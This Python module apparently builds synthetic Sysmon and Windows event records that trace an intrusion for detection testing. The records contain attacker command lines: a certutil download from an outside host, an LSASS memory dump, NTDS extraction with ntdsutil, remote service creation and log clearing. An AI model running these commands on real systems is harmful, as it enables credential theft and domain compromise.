"""The intrusion of the sample, step by step: a lure is opened, credentials are taken, the domain follows."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Final
from uuid import NAMESPACE_DNS, uuid5

_SYSMON: Final = "Microsoft-Windows-Sysmon/Operational"
_SYSTEM32: Final = "C:\\Windows\\System32\\"
_OFFICE: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_PROFILE: Final = "C:\\Users\\m.okafor\\AppData\\Local\\Temp\\"


@dataclass(frozen=True, slots=True, kw_only=True)
class Step:
    """`ts` is ISO 8601 with its zone."""

    ts: str
    host: str
    channel: str
    event_id: int
    fields: Mapping[str, str]


def guid(host: str, process: str) -> str:
    """What Sysmon calls one run of a program on one machine."""
    return f"{{{uuid5(NAMESPACE_DNS, f'{process}.{host}.assembly.example')}}}"


def logon(host: str, user: str) -> str:
    """The number that Windows gives the logon of a user on a machine."""
    return "0x3e7" if user == "SYSTEM" else f"0x{uuid5(NAMESPACE_DNS, f'{user}.{host}').int % (1 << 28):x}"


def _name(image: str) -> str:
    return image.rpartition("\\")[2].lower()


def _process(clock: str, host: str, image: str, line: str, parent: str, user: str = "m.okafor") -> Step:
    domain = "NT AUTHORITY" if user == "SYSTEM" else "ASSEMBLY"
    return Step(
        ts=f"2026-03-11T{clock}+00:00",
        host=host,
        channel=_SYSMON,
        event_id=1,
        fields={
            "UtcTime": f"2026-03-11 {clock}",
            "ProcessGuid": guid(host, _name(image)),
            "ProcessId": str(4000 + 4 * (len(line) % 500)),
            "Image": image,
            "CommandLine": line,
            "LogonId": logon(host, user),
            "ParentProcessGuid": guid(host, _name(parent)),
            "ParentImage": parent,
            "User": f"{domain}\\{user}",
            "IntegrityLevel": "High" if user != "m.okafor" else "Medium",
        },
    )


_SHELL: Final = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"

STEPS: Final = (
    _process(
        "10:42:07.318",
        "ws-017",
        _SHELL,
        "powershell.exe -NoProfile -WindowStyle Hidden -File " + _PROFILE + "agenda.ps1",
        _OFFICE + "WINWORD.EXE",
    ),
    _process(
        "10:42:39.022",
        "ws-017",
        _SYSTEM32 + "certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.20/agenda.dat " + _PROFILE + "agenda.exe",
        _SHELL,
    ),
    _process(
        "10:44:15.870",
        "ws-017",
        _SYSTEM32 + "schtasks.exe",
        "schtasks.exe /create /sc minute /mo 30 /tn AgendaSync /tr " + _PROFILE + "agenda.exe",
        _SHELL,
    ),
    Step(
        ts="2026-03-11T10:46:01.440+00:00",
        host="ws-017",
        channel=_SYSMON,
        event_id=3,
        fields={
            "UtcTime": "2026-03-11 10:46:01.440",
            "ProcessGuid": guid("ws-017", "agenda.exe"),
            "Image": _PROFILE + "agenda.exe",
            "User": "ASSEMBLY\\m.okafor",
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIp": "10.20.0.17",
            "DestinationIp": "203.0.113.20",
            "DestinationPort": "8443",
        },
    ),
    _process(
        "10:45:58.107",
        "ws-017",
        _PROFILE + "agenda.exe",
        _PROFILE + "agenda.exe",
        _SYSTEM32 + "svchost.exe",
    ),
    _process("10:51:33.105", "ws-017", _SYSTEM32 + "whoami.exe", "whoami /groups", _PROFILE + "agenda.exe"),
    _process(
        "10:51:58.612",
        "ws-017",
        _SYSTEM32 + "net.exe",
        'net group "domain admins" /domain',
        _PROFILE + "agenda.exe",
    ),
    _process(
        "11:05:26.949",
        "ws-017",
        _SYSTEM32 + "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 " + _PROFILE + "a.bin full",
        _PROFILE + "agenda.exe",
        user="SYSTEM",
    ),
    Step(
        ts="2026-03-11T11:20:11.201+00:00",
        host="dc-01",
        channel="Security",
        event_id=4624,
        fields={
            "TargetUserName": "svc-backup",
            "TargetDomainName": "ASSEMBLY",
            "TargetLogonId": logon("dc-01", "svc-backup"),
            "LogonType": "3",
            "IpAddress": "10.20.0.17",
            "WorkstationName": "WS-017",
        },
    ),
    Step(
        ts="2026-03-11T11:20:12.760+00:00",
        host="dc-01",
        channel="System",
        event_id=7045,
        fields={
            "ServiceName": "AgendaSvc",
            "ImagePath": "%COMSPEC% /Q /c echo start ^> C:\\Windows\\Temp\\o.txt",
            "ServiceType": "user mode service",
            "StartType": "demand start",
            "AccountName": "LocalSystem",
        },
    ),
    _process(
        "11:20:12.811",
        "dc-01",
        _SYSTEM32 + "cmd.exe",
        "C:\\Windows\\system32\\cmd.exe /Q /c echo start ^> C:\\Windows\\Temp\\o.txt",
        _SYSTEM32 + "services.exe",
        user="SYSTEM",
    ),
    _process(
        "11:24:40.337",
        "dc-01",
        _SYSTEM32 + "net1.exe",
        'net1 group "enterprise admins"',
        _SYSTEM32 + "cmd.exe",
        user="svc-backup",
    ),
    _process(
        "11:31:02.518",
        "dc-01",
        _SYSTEM32 + "ntdsutil.exe",
        'ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\n" q q',
        _SYSTEM32 + "cmd.exe",
        user="svc-backup",
    ),
    Step(
        ts="2026-03-11T11:50:44.003+00:00",
        host="dc-01",
        channel="Security",
        event_id=1102,
        fields={
            "SubjectUserName": "svc-backup",
            "SubjectDomainName": "ASSEMBLY",
            "SubjectLogonId": logon("dc-01", "svc-backup"),
        },
    ),
)
